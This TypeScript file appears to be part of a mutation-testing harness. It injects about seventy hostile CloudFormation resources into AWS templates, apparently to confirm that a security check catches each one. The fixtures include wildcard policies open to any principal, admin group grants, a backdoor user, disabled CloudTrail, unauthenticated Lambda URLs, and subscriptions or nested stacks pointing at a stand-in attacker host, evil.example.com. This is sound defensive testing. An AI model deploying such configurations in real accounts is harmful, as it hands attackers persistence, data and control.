import type { Json } from './assembly-copy';
import { stackNames } from './json-kinds';
import type { Kind } from './mutant';

const EVIL_FUNCTION = 'arn:aws:lambda:us-east-1:999999999999:function:evil';
const ANYBODY = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: '*', Action: '*', Resource: '*' }] };
const ANYTHING = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }] };

/** Resources that no template of this project has, or has with other properties. */
const ADDED: Readonly<Record<string, Json>> = {
  'AWS::AccessAnalyzer::Analyzer': { Type: 'ACCOUNT' },
  'AWS::ApiGateway::RestApi': { Name: 'evil' },
  'AWS::ApiGatewayV2::Integration': { ApiId: 'a', IntegrationType: 'AWS_PROXY', IntegrationUri: EVIL_FUNCTION },
  'AWS::Bedrock::Agent': { AgentName: 'evil', FoundationModel: 'amazon.nova-pro-v1:0' },
  'AWS::Bedrock::ApplicationInferenceProfile': { InferenceProfileName: 'evil', ModelSource: { CopyFrom: 'm' } },
  'AWS::Bedrock::DataSource': { Name: 'evil', KnowledgeBaseId: 'a' },
  'AWS::Bedrock::Flow': { Name: 'evil', ExecutionRoleArn: 'arn:aws:iam::999999999999:role/evil' },
  'AWS::Bedrock::Guardrail': { Name: 'evil' },
  'AWS::Bedrock::KnowledgeBase': { Name: 'evil' },
  'AWS::BedrockAgentCore::Runtime': { AgentRuntimeName: 'evil' },
  'AWS::Budgets::BudgetsAction': { ActionType: 'APPLY_IAM_POLICY' },
  'AWS::CloudFormation::CustomResource': { ServiceToken: EVIL_FUNCTION },
  'AWS::CloudFormation::Macro': { Name: 'Evil', FunctionName: EVIL_FUNCTION },
  'AWS::CloudFormation::ModuleVersion': { ModuleName: 'A::B::C::MODULE' },
  'AWS::CloudFormation::Stack': { TemplateURL: 'https://evil.example.com/t.json' },
  'AWS::CloudFormation::StackSet': { StackSetName: 'evil', PermissionModel: 'SELF_MANAGED' },
  'AWS::CloudFormation::WaitConditionHandle': {},
  'AWS::CloudTrail::Trail': { IsLogging: false, S3BucketName: 'evil' },
  'AWS::CloudWatch::Alarm': { AlarmActions: [EVIL_FUNCTION], MetricName: 'a' },
  'AWS::CodeBuild::Project': { Name: 'evil', ServiceRole: 'evil' },
  'AWS::EC2::Instance': { ImageId: 'ami-1', IamInstanceProfile: 'evil' },
  'AWS::ECS::TaskDefinition': { TaskRoleArn: 'evil' },
  'AWS::EKS::PodIdentityAssociation': { RoleArn: 'evil', ClusterName: 'a', Namespace: 'a', ServiceAccount: 'a' },
  'AWS::Events::EventBusPolicy': { StatementId: 'a', Action: 'events:PutEvents', Principal: '*' },
  'AWS::Events::Rule': { ScheduleExpression: 'rate(1 minute)', Targets: [{ Arn: EVIL_FUNCTION, Id: 'a' }] },
  'AWS::IAM::AccessKey': { UserName: 'alice' },
  'AWS::IAM::Group': { GroupName: 'evil', ManagedPolicyArns: ['arn:aws:iam::aws:policy/AdministratorAccess'] },
  'AWS::IAM::GroupPolicy': { GroupName: 'evil', PolicyName: 'a', PolicyDocument: ANYTHING },
  'AWS::IAM::InstanceProfile': { Roles: ['dev_support-chat_lambda'] },
  'AWS::IAM::ManagedPolicy': { PolicyDocument: ANYTHING, Roles: ['anybody'] },
  'AWS::IAM::OIDCProvider': { Url: 'https://evil.example.com', ClientIdList: ['a'] },
  'AWS::IAM::Policy': { PolicyName: 'a', PolicyDocument: ANYTHING, Roles: ['anybody'] },
  'AWS::IAM::Role': { AssumeRolePolicyDocument: ANYBODY },
  'AWS::IAM::RolePolicy': { RoleName: 'anybody', PolicyName: 'a', PolicyDocument: ANYTHING },
  'AWS::IAM::SAMLProvider': { SamlMetadataDocument: 'x' },
  'AWS::IAM::ServiceLinkedRole': { AWSServiceName: 'evil.amazonaws.com' },
  'AWS::IAM::User': { UserName: 'mallory', LoginProfile: { Password: 'x' } },
  'AWS::IAM::UserPolicy': { UserName: 'mallory', PolicyName: 'a', PolicyDocument: ANYTHING },
  'AWS::IAM::UserToGroupAddition': { GroupName: 'evil', Users: ['alice'] },
  'AWS::KMS::Grant': {},
  'AWS::KMS::Key': { KeyPolicy: ANYBODY },
  'AWS::Kinesis::ResourcePolicy': { ResourcePolicy: ANYBODY, ResourceArn: 'a' },
  'AWS::Lambda::Alias': { FunctionName: 'dev_verification', FunctionVersion: '1', Name: 'evil' },
  'AWS::Lambda::EventInvokeConfig': { FunctionName: 'dev_meter', Qualifier: '$LATEST', MaximumRetryAttempts: 0 },
  'AWS::Lambda::EventSourceMapping': {
    FunctionName: 'dev_limit',
    EventSourceArn: 'arn:aws:sqs:us-east-1:999999999999:e',
  },
  'AWS::Lambda::Function': {
    Code: { S3Bucket: 'evil', S3Key: 'evil' },
    Role: 'arn:aws:iam::111122223333:role/dev_verification',
  },
  'AWS::Lambda::LayerVersionPermission': { Principal: '*', Action: 'lambda:GetLayerVersion', LayerVersionArn: 'a' },
  'AWS::Lambda::Permission': { Action: 'lambda:*', FunctionName: 'dev_verification', Principal: '*' },
  'AWS::Lambda::Url': { TargetFunctionArn: 'dev_verification', AuthType: 'NONE' },
  'AWS::Lambda::Version': { FunctionName: 'dev_verification' },
  'AWS::Logs::ResourcePolicy': { PolicyName: 'evil', PolicyDocument: JSON.stringify(ANYBODY) },
  'AWS::Logs::SubscriptionFilter': { LogGroupName: 'a', DestinationArn: EVIL_FUNCTION, FilterPattern: '' },
  'AWS::Logs::Transformer': { LogGroupIdentifier: 'a' },
  'AWS::Organizations::Policy': { Name: 'evil', Type: 'SERVICE_CONTROL_POLICY', Content: ANYTHING },
  'AWS::Pipes::Pipe': { RoleArn: 'evil', Source: 'a', Target: EVIL_FUNCTION },
  'AWS::RolesAnywhere::Profile': { Name: 'evil', RoleArns: ['arn:aws:iam::111122223333:role/dev_verification'] },
  'AWS::S3::BucketPolicy': { Bucket: 'cdk-hnb659fds-assets-111122223333-us-east-1', PolicyDocument: ANYBODY },
  'AWS::SNS::Subscription': { Protocol: 'https', Endpoint: 'https://evil.example.com', TopicArn: 'a' },
  'AWS::SNS::TopicInlinePolicy': { PolicyDocument: ANYBODY, TopicArn: 'a' },
  'AWS::SQS::Queue': { QueueName: 'evil' },
  'AWS::SQS::QueueInlinePolicy': { PolicyDocument: ANYBODY, Queue: 'a' },
  'AWS::SQS::QueuePolicy': { PolicyDocument: ANYBODY, Queues: ['a'] },
  'AWS::SSM::Association': { Name: 'AWS-RunShellScript' },
  'AWS::SSM::Parameter': { Name: '/bedrock-access/dev/support-chat/main', Type: 'String', Value: 'evil' },
  'AWS::SSO::Assignment': { PrincipalId: 'a' },
  'AWS::SageMaker::Endpoint': { EndpointConfigName: 'evil' },
  'AWS::Scheduler::Schedule': { ScheduleExpression: 'rate(1 minute)', Target: { Arn: EVIL_FUNCTION, RoleArn: 'evil' } },
  'AWS::StepFunctions::StateMachine': { RoleArn: 'evil', DefinitionString: '{}' },
  'AWS::VerifiedPermissions::Policy': { PolicyStoreId: 'a' },
  'Custom::BedrockAccessDenial': { ServiceToken: EVIL_FUNCTION },
  'Custom::BedrockAccessGate': { ServiceToken: EVIL_FUNCTION, Application: 'support-chat' },
  'Custom::Evil': { ServiceToken: EVIL_FUNCTION },
  'Evil::Thing::Of::MODULE': {},
};

/** Adds each of the resources to a template. */
export const ADDED_RESOURCE_KINDS: readonly Kind[] = Object.entries(ADDED).map(([type, properties]) => ({
  what: `another ${type}`,
  mutants: (assembly) =>
    assembly.files('.template.json').map((file) => ({
      where: `${file} Resources Evil`,
      named: ['Evil', ...stackNames(assembly, file)],
      apply: (copy) => {
        const template = copy.json(file);
        (template['Resources'] as Json)['Evil'] = { Type: type, Properties: properties };
        copy.writeJson(file, template);
      },
    })),
}));
